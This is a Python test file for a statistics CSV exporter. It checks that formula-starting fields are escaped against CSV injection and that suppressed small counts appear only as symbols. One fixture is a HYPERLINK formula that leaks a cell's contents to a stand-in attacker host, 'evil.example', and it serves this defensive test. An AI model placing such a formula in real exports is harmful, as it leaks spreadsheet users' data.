"""CSV files (``hearth.stats.csv_export``): formula characters escaped (OWASP CSV
injection), a hidden figure is its symbol and never its value, the period and area on
every line."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hearth.core.csv_safety import FORMULA_STARTS
from hearth.stats import csv_export
from hearth.stats.disclosure import SECONDARY, SMALL_COUNT, Cell
from hearth.stats.tables import StatTable, Unit


def shown(value: int | Decimal) -> Cell:
    return Cell(value=value, shown=True)


def hidden(reason: str = SMALL_COUNT) -> Cell:
    return Cell(value=None, shown=False, reason=reason, symbol="c")


ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

TABLE = StatTable(
    key="by-agency",
    title="Referrals by agency",
    description="Referrals by the agency that made them.",
    row_heading="Agency",
    rows=(ATTACK, "+Southmoor", "-minus", "@at", "\tTabbed", "\rReturn", "Wessex Police"),
    columns=("Referrals", "Rate per 10,000", "Median time"),
    units=(Unit.COUNT, Unit.RATE, Unit.DURATION),
    cells=(
        (shown(1234), shown(Decimal("41.0")), shown(190)),
        (hidden(), Cell(value=None, shown=False, reason="count hidden", symbol="c"), hidden()),
        (hidden(SECONDARY), shown(Decimal("0.5")), shown(45)),
        (shown(0), Cell(value=None, shown=False, reason="not applicable", symbol="z"), shown(0)),
        (shown(7), shown(Decimal("1.0")), shown(1)),
        (shown(8), shown(Decimal("1.2")), shown(2)),
        (shown(9), shown(Decimal("1.3")), shown(3)),
    ),
    definition="d",
    source="s",
)


def read(text: str) -> list[list[str]]:
    assert text.startswith(csv_export.BOM)
    return list(csv.reader(io.StringIO(text[len(csv_export.BOM) :])))


def test_formula_characters_are_escaped() -> None:
    rows = read(csv_export.table_csv(TABLE, period="2025-26", area="Northshire"))
    labels = [row[2] for row in rows[1:]]
    assert labels == [
        "'" + ATTACK,
        "'+Southmoor",
        "'-minus",
        "'@at",
        "'\tTabbed",
        "'\rReturn",
        "Wessex Police",
    ]
    # Nowhere in the file does a field start with a formula character.
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_STARTS), field


def test_an_escaped_area_or_period_too() -> None:
    rows = read(csv_export.table_csv(TABLE, period="2025-26", area="=1+1"))
    assert {row[1] for row in rows[1:]} == {"'=1+1"}


def test_a_hidden_figure_is_its_symbol_never_its_value() -> None:
    rows = read(csv_export.table_csv(TABLE, period="2025-26", area="Northshire"))
    assert rows[0] == [
        "Period",
        "Area",
        "Agency",
        "Referrals",
        "Rate per 10,000",
        "Median time (minutes)",
    ]
    assert rows[1][3:] == ["1234", "41.0", "190"]
    assert rows[2][3:] == ["c", "c", "c"]  # a small count, the rate made from it
    assert rows[3][3] == "c"  # secondary: the same c, its reason never said
    assert rows[4][3:] == ["0", "z", "0"]  # 0 is shown; no population: z
    assert all(row[:2] == ["2025-26", "Northshire"] for row in rows[1:])
    text = csv_export.table_csv(TABLE, period="2025-26", area="Northshire")
    assert SMALL_COUNT not in text and SECONDARY not in text


def test_a_groups_tables_in_long_form() -> None:
    other = StatTable(**{**TABLE.__dict__, "key": "second", "title": "Second"})
    rows = read(csv_export.group_csv([TABLE, other], period="April 2025", area="Southmoor"))
    assert rows[0] == list(csv_export.LONG_HEADER)
    assert len(rows) == 1 + 2 * 7 * 3
    assert rows[1] == [
        "April 2025",
        "Southmoor",
        "Referrals by agency",
        "Agency",
        "'" + ATTACK,
        "Referrals",
        "1234",
    ]
    assert list({row[6] for row in rows[1:] if row[4] == "'+Southmoor"}) == ["c"]


def test_file_names() -> None:
    assert csv_export.filename("referrals", "FY2025-26", "by-area") == (
        "hearth-referrals-by-area-FY2025-26.csv"
    )
    assert csv_export.filename("referrals", "2025-Q2") == "hearth-referrals-2025-Q2.csv"
